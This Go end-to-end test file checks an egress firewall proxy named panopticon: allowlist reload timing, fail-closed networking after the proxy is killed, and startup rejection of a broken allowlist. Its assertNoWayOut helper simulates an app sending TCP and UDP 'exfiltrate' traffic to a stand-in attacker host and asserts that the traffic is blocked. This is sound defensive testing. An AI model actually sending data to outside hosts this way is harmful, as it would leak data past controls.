//go:build e2e

package e2e

import (
	"context"
	"os/exec"
	"regexp"
	"strings"
	"testing"
	"time"
)

// TestAllowlistReload edits the allowlist under a running panopticon: an
// addition takes effect within 2 s (DNS and egress alike), a removal blocks
// again, and a broken file keeps the last good list.
func TestAllowlistReload(t *testing.T) {
	t.Parallel()
	tb := NewTestbed(t)
	p := tb.StartPanopticon(t, "allowed.test\n")
	app := tb.App(t)
	denied := func() CurlResult {
		return app.Curl("https://denied.test/", "--resolve", "denied.test:443:203.0.113.20")
	}

	assertBlocked(t, denied(), "not-allowlisted")

	t.Run("adding a name allows it within 2s", func(t *testing.T) {
		p.SetAllowlist(t, "allowed.test\ndenied.test\n") // replace by rename, as editors do
		took, r := waitFor(5*time.Second, func() (bool, CurlResult) {
			r := app.Curl("https://denied.test/") // resolves through panopticon's DNS, too
			return r.Is(200), r
		})
		if !r.Is(200) {
			t.Fatalf("denied.test still refused 5s after it was added: %s", r)
		}
		if took > 2500*time.Millisecond {
			t.Errorf("reload took %v, want ≤ 2s", took.Round(time.Millisecond))
		}
	})

	t.Run("removing a name blocks it again", func(t *testing.T) {
		p.RewriteAllowlist(t, "allowed.test\n") // in-place edit
		took, r := waitFor(5*time.Second, func() (bool, CurlResult) {
			r := denied()
			return r.Is(403), r
		})
		assertBlocked(t, r, "not-allowlisted")
		if took > 2500*time.Millisecond {
			t.Errorf("reload took %v, want ≤ 2s", took.Round(time.Millisecond))
		}
	})

	t.Run("a broken file keeps the last good list", func(t *testing.T) {
		p.SetAllowlist(t, "allowed.test\ndenied.test\nthis is not a host name!\n")
		time.Sleep(3 * time.Second)
		if p.Exited() {
			t.Fatalf("panopticon exited on a broken allowlist:\n%s", p.Output())
		}
		assertBlocked(t, denied(), "not-allowlisted")
		if r := app.Curl("https://allowed.test/"); !r.Is(200) {
			t.Errorf("allowed.test after a broken reload: %s", r)
		}
		// Fixing the file is picked up again.
		p.SetAllowlist(t, "allowed.test\ndenied.test\n")
		if _, r := waitFor(5*time.Second, func() (bool, CurlResult) { r := denied(); return r.Is(200), r }); !r.Is(200) {
			t.Errorf("fixed allowlist not picked up: %s", r)
		}
	})
}

// waitFor polls try every 200ms until it succeeds or limit passes; it returns
// the time taken and the last result.
func waitFor(limit time.Duration, try func() (bool, CurlResult)) (time.Duration, CurlResult) {
	start := time.Now()
	var r CurlResult
	for i := 0; i < 100; i++ {
		var ok bool
		if ok, r = try(); ok || time.Since(start) > limit {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	return time.Since(start), r
}

// TestFailClosed stops panopticon (SIGTERM, then SIGKILL after a restart) and
// checks the app has no network at all afterwards: the firewall stays.
// The restart in the same namespace also checks the rules are idempotent.
func TestFailClosed(t *testing.T) {
	t.Parallel()
	tb := NewTestbed(t)
	app := tb.App(t)

	p := tb.StartPanopticon(t, "allowed.test\n")
	if r := app.Curl("https://allowed.test/"); !r.Is(200) {
		t.Fatalf("allowed.test before stop: %s", r)
	}
	rules := firewallRules(t, tb)

	if err := p.Stop(t); err != nil {
		t.Errorf("panopticon exit after SIGTERM: %v (want status 0)\n%s", err, p.Output())
	}
	t.Run("after SIGTERM", func(t *testing.T) { assertNoWayOut(t, tb, app) })

	p = tb.StartPanopticon(t, "allowed.test\n")
	t.Run("restart re-applies the same rules", func(t *testing.T) {
		if got := firewallRules(t, tb); got != rules {
			t.Errorf("rules after restart differ:\n--- first start\n%s\n--- restart\n%s", rules, got)
		}
		if r := app.Curl("https://allowed.test/"); !r.Is(200) {
			t.Errorf("allowed.test after restart: %s", r)
		}
	})

	p.Kill(t)
	t.Run("after SIGKILL", func(t *testing.T) { assertNoWayOut(t, tb, app) })
}

func assertNoWayOut(t *testing.T, tb *Testbed, app *App) {
	m := tb.Mark()
	r := app.Curl("https://allowed.test/", "--resolve", "allowed.test:443:203.0.113.10")
	if r.Status != 0 {
		t.Errorf("got an HTTP answer with panopticon gone: %s", r)
	}
	assertFast(t, r.Dur)
	if a := app.Agent("tcp", AttackerIP+":9999"); strings.Contains(a.Got, "ATTACKER") || a.MS > failFast.Milliseconds() {
		t.Errorf("tcp to the attacker: %s; want refused fast", a)
	}
	if a := app.Agent("tcp", "["+AttackerIPv6+"]:443"); strings.Contains(a.Got, "ATTACKER") || a.MS > failFast.Milliseconds() {
		t.Errorf("tcp to the attacker (v6): %s; want refused fast", a)
	}
	if a := app.Agent("udp", AttackerIP+":9999", "exfiltrate"); a.OK {
		t.Errorf("udp to the attacker: %s", a)
	}
	if a := app.Agent("dns", UpstreamDNS, "allowed.test", "A"); a.OK {
		t.Errorf("dns with panopticon gone answered: %s", a)
	}
	AssertUnseen(t, m, tb.Attacker, tb.Host("allowed.test"), tb.DNS)
}

var counters = regexp.MustCompile(`\[\d+:\d+\]`)

// firewallRules returns the pod's iptables and ip6tables rules without counters.
func firewallRules(t *testing.T, tb *Testbed) string {
	t.Helper()
	var b strings.Builder
	for _, tool := range []string{"iptables-save", "ip6tables-save"} {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		out, err := exec.CommandContext(ctx, "ip", "netns", "exec", tb.Pod, tool).Output()
		cancel()
		if err != nil {
			t.Fatalf("%s: %v", tool, err)
		}
		for _, line := range strings.Split(string(out), "\n") {
			if !strings.HasPrefix(line, "#") && line != "" {
				b.WriteString(counters.ReplaceAllString(line, "[0:0]") + "\n")
			}
		}
	}
	return b.String()
}

// TestStartupRefusesBadAllowlist: configuration is checked before anything
// else, so a broken allowlist exits non-zero naming file and line, and leaves
// no firewall behind.
func TestStartupRefusesBadAllowlist(t *testing.T) {
	t.Parallel()
	tb := NewTestbed(t)
	p := tb.PreparePanopticon(t, "allowed.test\nnot a host name!\n")
	r := p.RunOnce(10 * time.Second)
	if r.Exit <= 0 {
		t.Fatalf("panopticon with a broken allowlist: %s; want a non-zero exit", r)
	}
	if out := r.Stdout + r.Stderr; !strings.Contains(out, "allowlist.txt:2") {
		t.Errorf("error does not name allowlist.txt:2: %s", r)
	}
	if rules := firewallRules(t, tb); strings.Contains(strings.ToUpper(rules), "PANOPTICON") {
		t.Errorf("firewall installed although configuration was invalid:\n%s", rules)
	}
}
